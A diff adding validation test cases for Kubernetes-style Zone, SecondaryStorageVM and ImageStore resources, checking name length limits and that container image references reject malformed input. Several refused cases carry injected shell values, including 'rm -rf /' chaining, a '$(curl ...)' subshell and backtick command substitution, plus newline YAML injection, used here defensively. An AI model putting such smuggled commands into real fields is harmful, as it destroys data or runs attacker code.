@@ -102,6 +102,25 @@ REFUSED = [
     ("ssvm-zone-empty", "SecondaryStorageVM", {"spec__zoneRef": ""}, "spec.zoneRef", "at least 1"),
     ("ssvm-zone-missing", "SecondaryStorageVM", {"spec__zoneRef": None}, "spec.zoneRef", "Required value"),
     ("ssvm-token", "SecondaryStorageVM", {"spec__rebootRequest": "now please"}, "spec.rebootRequest", "should match"),
+    # names that become label values and host names
+    ("zone-name-64", "Zone", {"metadata__name": "z" * 64}, "metadata.name", "at most 63 characters"),
+    ("ssvm-name-64", "SecondaryStorageVM", {"metadata__name": "v" * 64}, "metadata.name", "at most 63 characters"),
+    # image references are OCI references: nothing a shell or a YAML line could carry
+    ("image-shell", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "registry.example/systemvm:4.19; rm -rf /"}}},
+     "spec.secondaryStorage.template.kubevirt.containerDiskImage", "OCI image reference"),
+    ("image-newline", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "registry.example/systemvm:4.19\nextra: 1"}}},
+     "template.kubevirt.containerDiskImage", "OCI image reference"),
+    ("image-trailing-newline", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "registry.example/systemvm:4.19\n"}}},
+     "template.kubevirt.containerDiskImage", "OCI image reference"),
+    ("image-subshell", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "$(curl http://10.0.0.1/x)"}}},
+     "template.kubevirt.containerDiskImage", "OCI image reference"),
+    ("image-upper-repository", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "registry.example/SystemVM:4.19"}}},
+     "template.kubevirt.containerDiskImage", "OCI image reference"),
+    ("image-short-digest", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "registry.example/systemvm@sha256:abc"}}},
+     "template.kubevirt.containerDiskImage", "OCI image reference"),
+    ("ssvm-override-image", "SecondaryStorageVM", {"spec__template": {"kubevirt": {"containerDiskImage": "systemvm:`id`"}}},
+     "spec.template.kubevirt.containerDiskImage", "OCI image reference"),
+    ("store-url-trailing-newline", "ImageStore", {"spec__url": "nfs://10.0.0.5/export/secondary\n"}, "spec.url", "nfs://host/export/path"),
 ]
 
 
@@ -148,6 +167,10 @@ ACCEPTED = [
         {"name": "store-host-1", "address": "10.4.0.7", "hostKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB"}]}}}),
     ("store-port", "ImageStore", {"spec__url": "nfs://nfs1.example.com:2049/export/sec/ondary"}),
     ("store-s3", "ImageStore", {"spec__protocol": "s3", "spec__url": "https://s3.example.com/bucket"}),
+    ("name-63", "Zone", {"metadata__name": "z" * 63}),
+    ("image-digest", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "quay.io/kubevirt/fedora:39@sha256:" + "a" * 64}}}),
+    ("image-registry-port", "Zone", {SS + "template": {"kubevirt": {"containerDiskImage": "localhost:5000/ssvm/systemvm_4.19:v1.2-rc"}}}),
+    ("ssvm-override-image", "SecondaryStorageVM", {"spec__template": {"kubevirt": {"containerDiskImage": "registry.example/systemvm:4.20"}}}),
 ]
 
 
